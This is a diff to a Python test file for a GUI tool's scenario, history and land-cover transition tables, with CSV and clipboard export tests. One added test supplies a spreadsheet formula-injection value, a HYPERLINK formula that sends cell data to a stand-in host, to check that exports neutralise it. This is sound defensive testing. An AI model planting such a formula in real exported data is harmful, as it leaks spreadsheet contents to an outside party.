@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import xml.etree.ElementTree as ElementTree
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -84,14 +85,38 @@ def test_bars_transitions_scenarios_and_the_curve_give_their_figures(window):
     assert transitions.table() == (("From", "To", "ha"), ("corn", "no class", "12.3456"))
     one = scenario(("SAR", "DSM"), "corn", 2.5, 0.75)
     other = scenario(("SAR",), "oats", 4.0, float("nan"))
+    other = replace(other, gone=(("SAR", 2),), overall=0.625, reference="survey")
     history = HistoryTable(window)
     history.show_scenarios((one, other))
     head, first, second = history.table()
-    assert head == ("sensors", "date", "model", "mean confidence", "corn (ha)", "oats (ha)")
-    assert first == ("SAR + DSM", one.date, "m", "0.75", "2.5", "") and second[3:] == ("", "", "4")
+    figures = ("mean confidence", "OA", "reference")
+    assert head == ("sensors", "taken away in places", "date", "model", *figures, "corn (ha)", "oats (ha)")
+    assert first == ("SAR + DSM", "", one.date, "m", "0.75", "", "", "2.5", "")
+    assert second[1] == "SAR gone in 2 polygons" and second[4:] == ("", "0.625", "survey", "", "4")
     curve = TrainingCurve(window)
     curve.set_points((HistoryPoint(1, 0.5), HistoryPoint(2, 0.25, 0.875)))
     assert curve.table()[1:] == (("1", "0.5", ""), ("2", "0.25", "0.875"))
+
+
+def test_a_name_out_of_a_file_is_no_formula_for_a_spreadsheet(window, tmp_path):
+    """In a file and on the clipboard; what the table shows is the name as it is."""
+    name = '=HYPERLINK("http://example.org/?"&A1)'
+    transitions = TransitionTable(window)
+    transitions.show_transitions([Transition(1, 2, 7, 12.5)], [ClassEntry(1, name, "#ffff00")])
+    transitions.exports.save_csv(str(tmp_path / "a.csv"))
+    transitions.exports.copy()
+    assert read(tmp_path / "a.csv")[1] == ["'" + name, "no class", "12.5"]
+    assert "\t=" not in "\t" + QApplication.clipboard().text().splitlines()[1].replace('"', "")
+    assert transitions.table()[1][0] == name
+
+
+def test_of_many_changes_the_small_ones_are_shown_together_and_exported_one_by_one(window):
+    classes = [ClassEntry(value, f"crop {value}", "#ffff00") for value in range(1, 61)]
+    table = TransitionTable(window)
+    table.show_transitions([Transition(value, 61 - value, value, value / 100) for value in range(1, 61)], classes)
+    assert table.rowCount() == 51 and table.figures()[0] == ("crop 60", "crop 1", "0.60")
+    assert table.figures()[-1] == ("10 smaller", "", "0.55")
+    assert len(table.table()) == 61 and table.table()[-1] == ("crop 1", "crop 60", "0.01")
 
 
 def test_a_picture_shows_all_rows_and_columns_sharply_and_leaves_the_table_as_it_was(heat, tmp_path):
